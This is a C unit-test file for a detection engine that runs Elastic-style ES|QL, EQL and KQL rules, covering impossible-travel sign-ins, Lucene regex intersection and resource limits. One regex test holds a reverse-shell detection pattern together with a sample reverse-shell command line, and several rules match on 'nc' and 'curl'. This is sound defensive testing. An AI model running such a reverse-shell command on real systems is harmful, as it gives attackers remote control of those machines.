	     "| WHERE c > 0 | EVAL x = CONCAT(TO_STRING(c), \\\" \\\", TO_STRING(NOW()))",
	     1, "\"1 2024-05-01T10:25:00.000Z\"\n"},
	    /* nested: (a AND (NOW AND b)), a NOW() in an EVAL before STATS */
	    {"FROM logs-* | WHERE (process.name == \\\"nc\\\" AND (@timestamp >= NOW() - 3 minutes AND "
	     "user.name == \\\"u\\\")) | EVAL age = DATE_DIFF(\\\"minute\\\", @timestamp, NOW()) | STATS x = "
	     "MAX(age) | WHERE x IS NOT NULL",
	     1, "3\n"},
	    /* a source row alerts once: >= takes 10:22 at 10:25 (NOW() - 3 minutes), > does not */
	    {"FROM logs-* METADATA _id | WHERE @timestamp >= NOW() - 3 minutes | EVAL x = host.id", 1, "\"b\"\n"},
	    {"FROM logs-* METADATA _id | WHERE @timestamp > NOW() - 3 minutes | EVAL x = host.id", 0, ""},
	    /* a KEEP between them reads the event's fields in the window's half */
	    {"FROM logs-* METADATA _id | WHERE @timestamp > NOW() - 5 minutes | KEEP host.* | EVAL x = "
	     "host.name",
	     2, "\"a\"\n\"b\"\n"},
	};
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
	process_event(&sb, "e2", "2024-05-01T10:22:00Z", "b", "\"nc\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		char text[1024], id[32];
		snprintf(id, sizeof(id), "enb%zu", i);
		snprintf(text, sizeof(text),
		         "{\"rule_id\":\"%s\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":1,"
		         "\"severity\":\"low\",\"type\":\"esql\",\"interval\":\"5m\",\"from\":\"now-30m\","
		         "\"query\":\"%s\"}",
		         id, cases[i].query);
		import_rule_text(text);
		struct detect_totals t = run_detect(id, NULL, NULL);
		strbuf_reset(&out);
		struct alert_query q = {0};
		assert_int_equal(store_alerts_each(db, &q, x_line, id), 0);
		char *sorted = sorted_lines(out.buf);
		if ((int)t.created != cases[i].created || strcmp(sorted, cases[i].alerts))
			fail_msg("case %zu: %d alerts\n%s", i, (int)t.created, sorted);
		free(sorted);
	}
}

/* Rules shaped like Elastic's "impossible travel" sign-in rules (Entra ID and Google Workspace,
 * not copied: our own text): per user and region the first and last sign-in's coordinates by
 * FIRST/LAST over @timestamp, then per user the corners of the regions' centroids, FIRST/LAST
 * again over the regions' first and last times, points built with CONCAT and TO_GEOPOINT and
 * their ST_DISTANCE. Ann signs in at Berlin at 10:00 and 10:05 and at New York at 10:40 (a
 * 6,385 km jump in 40 minutes: an alert); Bob at Munich at 10:00 and Berlin at 10:50 (504 km in
 * 50 minutes, 605 km/h: none). One execution (10:55, the hour before it) sees them all. */
static void sign_in(struct strbuf *sb, const char *id, const char *ts, const char *user, const char *region,
                    const char *country, const char *where)
{
	strbuf_addf(
	    sb,
	    "{\"@timestamp\":\"%s\",\"event\":{\"id\":\"%s\",\"category\":[\"authentication\"],\"outcome\":"
	    "\"success\"},\"user\":{\"email\":\"%s\"},\"source\":{\"ip\":\"192.0.2.1\",\"geo\":{\"region_name\":"
	    "\"%s\",\"country_name\":\"%s\",\"location\":%s}}}\n",
	    ts, id, user, region, country, where);
}

static void test_esql_impossible_travel_rules(void **state)
{
	(void)state;
	static const char *const queries[] = {
	    /* the honest pair: first and last sign-in's own coordinates */
	    "FROM logs-* | WHERE event.outcome == \\\"success\\\" AND user.email IS NOT NULL AND "
	    "source.geo.location IS NOT NULL | EVAL lat = ST_Y(source.geo.location), lon = "
	    "ST_X(source.geo.location) | STATS clat = AVG(lat), clon = AVG(lon), flat = FIRST(lat, @timestamp), "
	    "flon = FIRST(lon, @timestamp), llat = LAST(lat, @timestamp), llon = LAST(lon, @timestamp), seen = "
	    "MIN(@timestamp), left = MAX(@timestamp) BY user.email, source.geo.country_name, "
	    "source.geo.region_name | STATS a_lat = FIRST(flat, seen), a_lon = FIRST(flon, seen), b_lat = "
	    "LAST(llat, left), b_lon = LAST(llon, left), t0 = MIN(seen), t1 = MAX(left), regions = "
	    "COUNT_DISTINCT(source.geo.region_name) BY user.email | WHERE regions >= 2 | EVAL a = "
	    "TO_GEOPOINT(CONCAT(\\\"POINT(\\\", TO_STRING(a_lon), \\\" \\\", TO_STRING(a_lat), \\\")\\\")), b = "
	    "TO_GEOPOINT(CONCAT(\\\"POINT(\\\", TO_STRING(b_lon), \\\" \\\", TO_STRING(b_lat), \\\")\\\")), km = "
	    "ROUND(ST_DISTANCE(a, b) / 1000.0, 0), minutes = DATE_DIFF(\\\"minute\\\", t0, t1), kmh = "
	    "CASE(minutes > 0, ROUND(km * 60.0 / minutes, 0), null) | WHERE km >= 500 AND kmh >= 800 | EVAL x = "
	    "CONCAT(user.email, \\\" \\\", TO_STRING(km), \\\" \\\", TO_STRING(kmh))",
	    /* the box: corners over the regions' centroids, the window to the last region's arrival */
	    "FROM logs-* | WHERE event.outcome == \\\"success\\\" AND source.geo.location IS NOT NULL | EVAL lat = "
	    "ST_Y(source.geo.location), lon = ST_X(source.geo.location) | STATS clat = AVG(lat), clon = AVG(lon), "
	    "seen = MIN(@timestamp) BY user.email, source.geo.region_name | STATS lo_lat = MIN(clat), hi_lat = "
	    "MAX(clat), lo_lon = MIN(clon), hi_lon = MAX(clon), t0 = MIN(seen), t1 = MAX(seen), first_region = "
	    "FIRST(source.geo.region_name, seen), last_region = LAST(source.geo.region_name, seen) BY user.email | "
	    "EVAL p = TO_GEOPOINT(CONCAT(\\\"POINT(\\\", TO_STRING(lo_lon), \\\" \\\", TO_STRING(lo_lat), "
	    "\\\")\\\")), q = TO_GEOPOINT(CONCAT(\\\"POINT(\\\", TO_STRING(hi_lon), \\\" \\\", TO_STRING(hi_lat), "
	    "\\\")\\\")), km = ROUND(ST_DISTANCE(p, q) / 1000.0, 0), kmh = ROUND(km * 60.0 / DATE_DIFF(\\\"minute\\\", "
	    "t0, t1), 0) | WHERE km >= 500 AND kmh >= 800 | EVAL x = CONCAT(user.email, \\\" \\\", first_region, "
	    "\\\" \\\", last_region, \\\" \\\", TO_STRING(km), \\\" \\\", TO_STRING(kmh))",
	};
	static const char *const want[] = {"\"ann@example.com 6385.0 9578.0\"\n",
	                                   "\"ann@example.com Berlin New York 6385.0 9578.0\"\n"};
	struct strbuf sb;
	strbuf_init(&sb, 2048);
	sign_in(&sb, "s1", "2024-05-01T10:00:00Z", "ann@example.com", "Berlin", "Germany",
	        "{\"lat\":52.52,\"lon\":13.405}");
	sign_in(&sb, "s2", "2024-05-01T10:05:00Z", "ann@example.com", "Berlin", "Germany", "\"POINT (13.41 52.53)\"");
	sign_in(&sb, "s3", "2024-05-01T10:40:00Z", "ann@example.com", "New York", "United States",
	        "\"40.7128,-74.006\"");
	sign_in(&sb, "s4", "2024-05-01T10:00:00Z", "bob@example.com", "Bavaria", "Germany",
	        "{\"lat\":48.1351,\"lon\":11.582}");
	sign_in(&sb, "s5", "2024-05-01T10:50:00Z", "bob@example.com", "Berlin", "Germany",
	        "{\"lat\":52.52,\"lon\":13.405}");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	for (size_t i = 0; i < sizeof(queries) / sizeof(queries[0]); i++) {
		char text[4096], id[32];
		snprintf(id, sizeof(id), "travel%zu", i);
		snprintf(text, sizeof(text),
		         "{\"rule_id\":\"%s\",\"name\":\"n\",\"description\":\"d\",\"risk_score\":47,"
		         "\"severity\":\"medium\",\"type\":\"esql\",\"interval\":\"1h\",\"from\":\"now-60m\","
		         "\"query\":\"%s\"}",
		         id, queries[i]);
		import_rule_text(text);
		struct detect_totals t = run_detect(id, NULL, NULL);
		strbuf_reset(&out);
		struct alert_query q = {0};
		assert_int_equal(store_alerts_each(db, &q, x_line, id), 0);
		if ((int)t.created != 1 || strcmp(out.buf, want[i]))
			fail_msg("case %zu: %d alerts\n%s", i, (int)t.created, out.buf);
	}
}

/* Inside a Lucene bracket expression a backslash makes the next character literal (RegExp's
 * parseCharExp), ']' and '\\' too; a '"' there is itself. Elastic's "Exchange inbox rule with an
 * obfuscated name" matches names of punctuation with [!@#$%^&*()_+={[\]|\\:;"'<,>.?/~` \-]+. */
/* A pattern compiled as Lucene reads it, matched against the whole value. */
struct regex_case {
	const char *pat, *value;
	int hit;
};

static void check_lucene_regex_cases(const struct regex_case *cases, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		const char *why;
		pcre2_code *re = lucene_regex_compile(cases[i].pat, strlen(cases[i].pat), 0, &why);
		if (!re)
			fail_msg("case %zu: %s", i, why);
		if (regex_match_whole(re, cases[i].value, strlen(cases[i].value)) != cases[i].hit)
			fail_msg("case %zu: %s on %s", i, cases[i].pat, cases[i].value);
		pcre2_code_free(re);
	}
}

static void test_lucene_bracket_escapes(void **state)
{
	(void)state;
	static const struct regex_case cases[] = {
	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "!]\\\"-", 1},
	    {"[!@#$%^&*()_+={[\\]|\\\\:;\"'<,>.?/~` \\-]+", "rule1", 0},
	    {"[\\]]", "]", 1},
	    {"[a\\-z]", "b", 0},
	    {"[a\\-z]", "-", 1},
	    {"[\\d]+", "42", 1},
	};
	check_lucene_regex_cases(cases, sizeof(cases) / sizeof(cases[0]));
}

/* '&' is Lucene's intersection: ES|QL's RLikePattern compiles with RegExp.ALL, which holds
 * RegExp.INTERSECTION (esql-core .../predicate/regex/RLikePattern.java, doCreateAutomaton; EQL's
 * regex too). RegExp's grammar: interexp ::= concatexp [ '&' interexp ] inside a union's branch,
 * so it binds looser than concatenation and tighter than '|', right to left; and parseConcatExp
 * reads one item after '&' whatever it is, so a '|', ')' or '&' there is a character (Elastic's
 * "bash\s+-i\s+>&|0>&1" is bash\s+-i\s+> intersected with the string "|0>" and so on: empty). */
static void test_lucene_regex_intersection(void **state)
{
	(void)state;
	static const struct regex_case cases[] = {
	    {".*a.*&.*b.*", "xaxbx", 1}, /* both */
	    {".*a.*&.*b.*", "xaxx", 0},  /* one */
	    {"a.*&.*z|q", "abz", 1},     /* (a.*&.*z)|q */
	    {"a.*&.*z|q", "q", 1},       /* | looser than & */
	    {"a.*&.*z|q", "ab", 0},      /* */
	    {"x(a+&aa)y", "xaay", 1},    /* inside a group, the same substring */
	    {"x(a+&aa)y", "xay", 0},     /* */
	    {"x(a+&aa)y", "xaaay", 0},   /* */
	    {"(ab|a)(c|bc)&abc", "abc", 1},
	    {"[a-z]+&.*o.*&....", "food", 1}, /* right to left, all three */
	    {"[a-z]+&.*o.*&....", "fooda", 0},
	    {"[a-z]+&.*o.*&....", "feed", 0},
	    {"(a&b)*", "", 1}, /* an empty intersection repeated none */
	    {"(a&b)*", "a", 0},
	    {"a&|b", "a", 0},   /* a & the string "|b" */
	    {"a&|b", "b", 0},   /* */
	    {".*&|b", "|b", 1}, /* */
	    {"A.*&.*Z", "AbZ", 1},
	    /* a & that starts a branch is a character, the concatenation's first item */
	    {"&a", "&a", 1},
	    {"x|&b", "&b", 1},
	    {"x|&", "&", 1},
	    {"(&)", "&", 1},
	    {"y(&b)*", "y&b&b", 1},
	    {"&&a", "&a", 0}, /* "&" & "a" */
	    {"&&a", "a", 0},  /* */
	    /* Elastic's kubernetes reverse-shell alternatives: >& then | is > & "|0>" & "1" */
	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1", 0},
	    {".*(bash\\s+-i\\s+>&|0>&1|>&\\s*/dev/tcp|mkfifo).*", "mkfifo /tmp/f", 1},
	};
	check_lucene_regex_cases(cases, sizeof(cases) / sizeof(cases[0]));
	const char *why;
	assert_null(lucene_regex_compile("a&", 2, 0, &why));
	assert_string_equal(why, "invalid regular expression");
}

/* An ES|QL rule every second over 1,000,000 days: an execution with no row costs nothing, and
 * executions whose windows hold the same rows share one answer. It kept every execution's
 * rows (a copy of its window each) to the end: quadratic, 12.8 GB for 2,000 events. A row of
 * a source event alerts once, whatever the executions seeing it; max_signals still caps each
 * execution (30 events in one second, 10 a second); an aggregate alerts per execution. */
static void test_esql_long_schedule_costs_rows_not_executions(void **state)
{
	(void)state;
	static const char *const rule =
	    "{\"rule_id\":\"%s\",\"name\":\"%s\",\"description\":\"d\",\"risk_score\":21,\"severity\":"
	    "\"low\",\"type\":\"esql\",\"interval\":\"1s\",\"from\":\"now-1000000d\",\"max_signals\":%d,"
	    "\"query\":\"%s\"}";
	char text[512];
	snprintf(text, sizeof(text), rule, "src", "src", 10,
	         "FROM logs-* METADATA _id | WHERE process.name == \\\"nc\\\" | KEEP _id, user.name");
	import_rule_text(text);
	snprintf(text, sizeof(text), rule, "agg", "agg", 100, "FROM logs-* | STATS c = COUNT(*) BY host.id");
	import_rule_text(text);
	struct strbuf sb;
	strbuf_init(&sb, 1 << 16);
	char id[16], ts[40];
	for (int i = 0; i < 30; i++) { /* a burst: three executions of ten */
		snprintf(id, sizeof(id), "b%d", i);
		process_event(&sb, id, "2024-05-01T00:00:00Z", "a", "\"nc\"", "u");
	}
	for (int i = 0; i < 400; i++) { /* then one every 3 minutes 36 s, for a day */
		snprintf(id, sizeof(id), "d%d", i);
		snprintf(ts, sizeof(ts), "2024-05-01T%02d:%02d:%02dZ", (i * 216 + 1) / 3600, (i * 216 + 1) / 60 % 60,
		         (i * 216 + 1) % 60);
		process_event(&sb, id, ts, "a", i % 2 ? "\"nc\"" : "\"curl\"", "u");
	}
	ingest_text(sb.buf);
	struct detect_totals t = run_detect("src", NULL, NULL);
	assert_int_equal(t.executions, 86186);
	assert_int_equal(t.matched, 230); /* the events that gave a row (it counted 42,000,000 rows) */
	assert_int_equal(t.created, 230);
	assert_int_equal(t.capped, 2);
	strbuf_reset(&sb);
	/* the aggregate: 200 events a second apart, hosts a and b by turns */
	for (int i = 0; i < 200; i++) {
		snprintf(id, sizeof(id), "s%d", i);
		snprintf(ts, sizeof(ts), "2024-05-02T10:%02d:%02dZ", i / 60, i % 60);
		process_event(&sb, id, ts, i % 2 ? "b" : "a", "\"ls\"", "u");
	}
	ingest_text(sb.buf);
	t = run_detect("agg", "2024-05-02T10:00:00Z", "2024-05-02T10:03:19Z");
	assert_int_equal(t.executions, 200);
	assert_int_equal(t.matched, 630); /* the case's events: the window holds them all */
	/* each execution a row per host its window holds: a (the day's), and b after the first */
	assert_int_equal(t.created, 399);
	strbuf_release(&sb);
}

/* Imports an ES|QL rule (its other fields, JSON members) whose query is head and then `a`
 * doubled 40 times: over ES|QL's 1 MiB bound for a value unless `a` is empty. */
static void import_doubling_rule(const char *fields, const char *head)
{
	struct strbuf q;
	strbuf_init(&q, 1024);
	strbuf_addf(&q, "{%s,\"type\":\"esql\",\"query\":\"%s", fields, head);
	for (int i = 0; i < 40; i++)
		strbuf_addstr(&q, " | EVAL a = CONCAT(a, a)");
	strbuf_addstr(&q, "\"}");
	import_rule_text(q.buf);
	strbuf_release(&q);
}

/* A rule whose ES|QL query meets a bound stops with an error naming the rule, the bound and the
 * event; its alerts are undone and it counts as skipped (it ran until malloc aborted). */
static void test_esql_bomb_stops_the_rule_with_an_error(void **state)
{
	(void)state;
	import_doubling_rule("\"rule_id\":\"bomb\",\"name\":\"Bomb\",\"description\":\"d\",\"risk_score\":21,"
	                     "\"severity\":\"low\"",
	                     "FROM logs-* METADATA _id | EVAL a = CONCAT(user.name, user.name)");
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"nc\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct strbuf msgs;
	strbuf_init(&msgs, 256);
	struct detect_options o = {.rule_id = "bomb", .now_us = NOW, .warn = {tu_collect, &msgs}};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.rules, 0);
	assert_int_equal(t.skipped, 1);
	assert_int_equal(t.created, 0);
	assert_string_equal(msgs.buf,
	                    "error: rule \"Bomb\" (bomb v1) stopped: CONCAT would make a value over 1 MiB "
	                    "(1,048,576 bytes), the most a function makes, at event \"e1\"; it made no alerts\n");
	strbuf_release(&msgs);
}

/* "rule_id last_event_id" of a rule (detect_state: how far detect has read). */
static int state_line(void *ctx, const struct rule_row *r)
{
	(void)ctx;
	int64_t last = -1;
	assert_int_equal(store_detection_state(db, r->key, &last), 0);
	strbuf_addf(&out, "%s %lld\n", r->rule_id, (long long)last);
	return 0;
}

/* Rules finish FINISH_GROUP to a transaction (detect.c): one that stops in its finish, after
 * alerts of its own in earlier executions, undoes those alone (a savepoint), is counted skipped
 * and keeps its state, so the next detect tries it again; the rules finishing around it keep
 * their alerts and states. On the writer's thread and on this one. */
static void test_a_rule_stopped_in_its_finish_undoes_only_its_own(void **state)
{
	(void)state;
	/* a row per user and execution, its value empty while one event is in the window, over
	 * the bound once two are */
	import_doubling_rule(
	    "\"rule_id\":\"late-bomb\",\"name\":\"Late bomb\",\"description\":\"d\","
	    "\"risk_score\":21,\"severity\":\"low\",\"interval\":\"5m\",\"from\":\"now-5m\"",
	    "FROM logs-* | STATS c = COUNT(*) BY user.name | EVAL a = CASE(c > 1, \\\"x\\\", \\\"\\\")");
	import_rule_text("{\"rule_id\":\"ls\",\"name\":\"ls\",\"description\":\"d\",\"risk_score\":21,"
	                 "\"severity\":\"low\",\"type\":\"query\",\"language\":\"kuery\",\"interval\":\"5m\","
	                 "\"from\":\"now-5m\",\"query\":\"process.name: ls\"}");
	struct strbuf sb;
	strbuf_init(&sb, 1024);
	process_event(&sb, "e1", "2024-05-01T10:01:00Z", "a", "\"ls\"", "u");
	process_event(&sb, "e2", "2024-05-01T10:31:00Z", "a", "\"ls\"", "u");
	process_event(&sb, "e3", "2024-05-01T10:31:30Z", "a", "\"ls\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct strbuf msgs;
	strbuf_init(&msgs, 256);
	for (int pass = 0; pass < 2; pass++) {
		struct detect_options o = {.now_us = NOW, .synchronous = pass, .warn = {tu_collect, &msgs}};
		struct detect_totals t;
		assert_int_equal(detect_run(db, &o, &t), 0);
		if (pass == 0) { /* the seed rule and ls ran; late-bomb stopped (its first alert undone) */
			assert_int_equal(t.rules, 2);
			assert_int_equal(t.skipped, 1);
			assert_int_equal(t.created, 3);
			assert_string_equal(alerts(), "ls e1 2024-05-01T10:01:00.000000Z\n"
			                              "ls e2 2024-05-01T10:31:00.000000Z\n"
			                              "ls e3 2024-05-01T10:31:30.000000Z\n");
		} else { /* again: nothing new but late-bomb, which stops again */
			assert_int_equal(t.skipped, 1);
			assert_int_equal(t.created, 0);
		}
		assert_non_null(
		    strstr(msgs.buf, "error: rule \"Late bomb\" (late-bomb v1) stopped: CONCAT would make"));
		strbuf_reset(&msgs);
	}
	strbuf_release(&msgs);
	/* how far each rule read: ls all three events, late-bomb none (it begins again) */
	strbuf_reset(&out);
	assert_int_equal(store_rules_each(db, state_line, NULL), 0);
	assert_non_null(strstr(out.buf, "ls 3\n"));
	assert_non_null(strstr(out.buf, "late-bomb 0\n"));
}

/* A join key on an array joins on each of its values, as Elasticsearch's sequences do (it
 * joined on the first value only). */
static void test_sequence_joins_on_every_array_value(void **state)
{
	(void)state;
	import_rule_text("{\"rule_id\":\"seq\",\"name\":\"seq\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"sequence by tags with maxspan=1m [process where true] [file where true]\"}");
	ingest_text("{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"id\":\"p\",\"category\":\"process\"},"
	            "\"tags\":[\"a\",\"b\"]}\n"
	            "{\"@timestamp\":\"2024-05-01T10:01:10Z\",\"event\":{\"id\":\"f-c\",\"category\":\"file\"},"
	            "\"tags\":[\"c\"]}\n"
	            "{\"@timestamp\":\"2024-05-01T10:01:20Z\",\"event\":{\"id\":\"f-b\",\"category\":\"file\"},"
	            "\"tags\":[\"x\",\"b\"]}\n");
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_int_equal(t.created, 1);
	assert_string_equal(alerts(), "seq p 2024-05-01T10:01:00.000000Z\n");
}

/* The column prefilter (process.name, event.action, user.name, process.executable tested
 * before a document is parsed) trusts a column only when it holds the field's one value: an
 * array's other values, and numbers, are found by the rules as before. Two rules run with the
 * seed rule (the shared pass), then each alone in a case of its own. */
static void load_array_case(void)
{
	import_rule_text("{\"rule_id\":\"arr\",\"name\":\"arr\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"process where process.name == \\\"nc-b\\\" and event.action in "
	                 "(\\\"exec\\\", \\\"fork\\\")\"}");
	import_rule_text("{\"rule_id\":\"seqarr\",\"name\":\"seqarr\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"sequence by host.name with maxspan=1m [process where user.name == \\\"42\\\"] "
	                 "[process where process.executable == \\\"/bin/nc-b\\\"]\"}");
	import_rule_text("{\"rule_id\":\"kq\",\"name\":\"kq\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"query\",\"language\":\"kuery\",\"interval\":\"5m\","
	                 "\"from\":\"now-6m\",\"query\":\"process.name:(nc-b or \\\"n c\\\") and event.action:exec\"}");
	ingest_text("{\"@timestamp\":\"2024-05-01T10:01:00Z\",\"event\":{\"id\":\"a1\",\"category\":[\"process\"],"
	            "\"action\":[\"start\",\"exec\"]},\"host\":{\"name\":\"h\"},\"process\":{\"name\":"
	            "[\"curl\",\"nc-b\"]},\"user\":{\"name\":\"42\"}}\n"
	            "{\"@timestamp\":\"2024-05-01T10:01:05Z\",\"event\":{\"id\":\"a2\",\"category\":[\"process\"],"
	            "\"action\":\"exec\"},\"host\":{\"name\":\"h\"},\"process\":{\"name\":\"x\","
	            "\"executable\":[\"/bin/x\",\"/bin/nc-b\"]}}\n"
	            "{\"@timestamp\":\"2024-05-01T10:01:10Z\",\"event\":{\"id\":\"a3\",\"category\":[\"process\"],"
	            "\"action\":\"exec\"},\"host\":{\"name\":\"g\"},\"process\":{\"name\":\"nc-b\"},"
	            "\"user\":{\"name\":42}}\n");
}

static void test_column_prefilter_sees_arrays_and_numbers(void **state)
{
	load_array_case();
	const char *want = "arr a1 2024-05-01T10:01:00.000000Z\n"
	                   "arr a3 2024-05-01T10:01:10.000000Z\n"
	                   "kq a1 2024-05-01T10:01:00.000000Z\n"
	                   "kq a3 2024-05-01T10:01:10.000000Z\n"
	                   "seqarr a1 2024-05-01T10:01:00.000000Z\n";
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_string_equal(alerts(), want);
	teardown(state);
	setup(state);
	load_array_case();
	const char *ids[] = {"arr", "seqarr", "kq"};
	for (size_t i = 0; i < 3; i++) {
		struct detect_options one = {.now_us = NOW, .rule_id = ids[i]};
		assert_int_equal(detect_run(db, &one, &t), 0);
	}
	assert_string_equal(alerts(), want);
}

/* A missing-event stage (Elasticsearch 8.x): a sequence holds only when no event of that stage,
 * with its join key, lies between its neighbours (or, first or last, within maxspan). */
static void test_sequence_with_missing_events(void **state)
{
	(void)state;
	import_rule_text("{\"rule_id\":\"miss\",\"name\":\"miss\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"sequence by host.id with maxspan=1m [process where process.name == \\\"a\\\"] "
	                 "![process where process.name == \\\"b\\\"] [process where process.name == \\\"c\\\"]\"}");
	import_rule_text("{\"rule_id\":\"tail\",\"name\":\"tail\",\"description\":\"d\",\"risk_score\":47,"
	                 "\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\",\"from\":\"now-6m\","
	                 "\"query\":\"sequence by host.id with maxspan=1m [process where process.name == \\\"a\\\"] "
	                 "[process where process.name == \\\"c\\\"] ![process where process.name == \\\"d\\\"]\"}");
	struct strbuf sb;
	strbuf_init(&sb, 2048);
	/* h1: a, c: nothing between: both rules (no d within a minute); h2: a, b, c: b between;
	 * h3: a, b on another host, c; h4: a, c, then d: the tail rule's missing event */
	process_event(&sb, "1a", "2024-05-01T10:01:00Z", "h1", "\"a\"", "u");
	process_event(&sb, "1c", "2024-05-01T10:01:10Z", "h1", "\"c\"", "u");
	process_event(&sb, "2a", "2024-05-01T10:01:00Z", "h2", "\"a\"", "u");
	process_event(&sb, "2b", "2024-05-01T10:01:05Z", "h2", "\"b\"", "u");
	process_event(&sb, "2c", "2024-05-01T10:01:10Z", "h2", "\"c\"", "u");
	process_event(&sb, "3a", "2024-05-01T10:01:00Z", "h3", "\"a\"", "u");
	process_event(&sb, "3b", "2024-05-01T10:01:05Z", "hx", "\"b\"", "u");
	process_event(&sb, "3c", "2024-05-01T10:01:10Z", "h3", "\"c\"", "u");
	process_event(&sb, "4a", "2024-05-01T10:01:00Z", "h4", "\"a\"", "u");
	process_event(&sb, "4c", "2024-05-01T10:01:10Z", "h4", "\"c\"", "u");
	process_event(&sb, "4d", "2024-05-01T10:01:30Z", "h4", "\"d\"", "u");
	ingest_text(sb.buf);
	strbuf_release(&sb);
	struct detect_options o = {.now_us = NOW};
	struct detect_totals t;
	assert_int_equal(detect_run(db, &o, &t), 0);
	assert_string_equal(alerts(), "miss 1a 2024-05-01T10:01:00.000000Z\n"
	                              "miss 3a 2024-05-01T10:01:00.000000Z\n"
	                              "miss 4a 2024-05-01T10:01:00.000000Z\n"
	                              "tail 1a 2024-05-01T10:01:00.000000Z\n"
	                              "tail 2a 2024-05-01T10:01:00.000000Z\n"
	                              "tail 3a 2024-05-01T10:01:00.000000Z\n");
}

static int collect_uuid(void *ctx, const struct alert_row *a)
{
	/* the event, time and reason too: a threshold alert's count is in its reason */
	strbuf_addf(ctx, "%s %s %s %lld %lld %s\n", a->rule_id, a->uuid,
	            strncmp(a->rule_name, "Sequence", 8) ? "" : "seq", (long long)a->event_id,
	            (long long)a->original_time, a->reason ? a->reason : "");
	return 0;
}

/* One line per alert (fn writes it), sorted. */
static void sorted_alert_lines(struct store *s, alert_fn fn, struct strbuf *into)
{
	struct alert_query q = {0};
	struct strbuf raw;
	strbuf_init(&raw, 4096);
	assert_int_equal(store_alerts_each(s, &q, fn, &raw), 0);
	tu_sort_lines(&raw);
	strbuf_add(into, raw.buf, raw.len);
	strbuf_release(&raw);
}

/* The uuids of every alert, sorted. */
static void alert_uuids(struct store *s, struct strbuf *into)
{
	sorted_alert_lines(s, collect_uuid, into);
}

static int collect_rule_id(void *ctx, const struct rule_row *r)
{
	strbuf_addf(ctx, "%s\n", r->rule_id);
	return 0;
}

/* Detects with each stored rule in a run of its own. */
static void detect_one_rule_at_a_time(struct store *s, const struct detect_options *base)
{
	struct strbuf ids;
	strbuf_init(&ids, 4096);
	assert_int_equal(store_rules_each(s, collect_rule_id, &ids), 0);
	for (char *p = ids.buf, *end; (end = strchr(p, '\n')); p = end + 1) {
		*end = 0;
		struct detect_options d = *base;
		d.rule_id = p;
		struct detect_totals t;
		assert_int_equal(detect_run(s, &d, &t), 0);
	}
	strbuf_release(&ids);
}

/* A whole pack of rules shaped like Elastic's (bench/gen-rules) alerts the same whether the
 * prefilters (the needle automaton, the column tests, the shared scan, sequences matched as
 * the pass reads) run, every candidate is parsed and evaluated and every stage event kept, each
 * rule runs alone (an index may serve it), or the shared pass stops every 7 rows for the rules
 * to decide their executions and forget what they are done with. */
static void test_a_pack_alerts_the_same_without_prefilters(void **state)
{
	(void)state;
	struct strbuf o, e;
	strbuf_init(&o, 256);
	strbuf_init(&e, 256);
	assert_int_equal(
	    tu_run(&o, &e, "{ build/release/gen-events --events 1000 --hosts 4 > '%s'; }", tu_path("pack.ndjson")), 0);
	assert_int_equal(
	    tu_run(&o, &e, "{ build/release/gen-rules --rules 150 > '%s'; }", tu_path("pack-rules.ndjson")), 0);
	/* and broad sequences, which fire often: joins on the host and the process, a join per
	 * stage, three stages with until, one without maxspan */
	static const char *const broad[] = {
	    "sequence by host.id with maxspan=1m [process where event.type == \\\"start\\\"] [network where true]",
	    "sequence by process.entity_id with maxspan=5m [process where true] [file where true]",
	    "sequence by host.id with maxspan=2m [process where true] [file where true] [network where true] "
	    "until [process where event.action == \\\"exec\\\"]",
	    "sequence with maxspan=30s [process where true] by process.entity_id [network where true] by "
	    "process.entity_id",
	    "sequence by host.id [file where true] [process where event.type == \\\"start\\\"]"};
	FILE *f = fopen(tu_path("pack-rules.ndjson"), "a");
	assert_non_null(f);
	for (size_t i = 0; i < sizeof(broad) / sizeof(broad[0]); i++)
		fprintf(f,
		        "{\"rule_id\":\"broad-%zu\",\"name\":\"Sequence broad %zu\",\"description\":\"d\","
		        "\"risk_score\":47,\"severity\":\"medium\",\"type\":\"eql\",\"interval\":\"5m\","
		        "\"from\":\"now-9m\",\"query\":\"%s\"}\n",
		        i, i, broad[i]);
	assert_int_equal(fclose(f), 0);
	struct strbuf with, without, alone, flushed;
	strbuf_init(&with, 4096);
	strbuf_init(&without, 4096);
	strbuf_init(&alone, 4096);
	strbuf_init(&flushed, 4096);
	struct detect_totals shared = {0};
	for (int pass = 0; pass < 4; pass++) {
		struct store *s;
		char *err = NULL, name[32];
		snprintf(name, sizeof(name), "pack-%d.db", pass);
		assert_int_equal(store_open(tu_path(name), STORE_CREATE, &s, &err), 0);
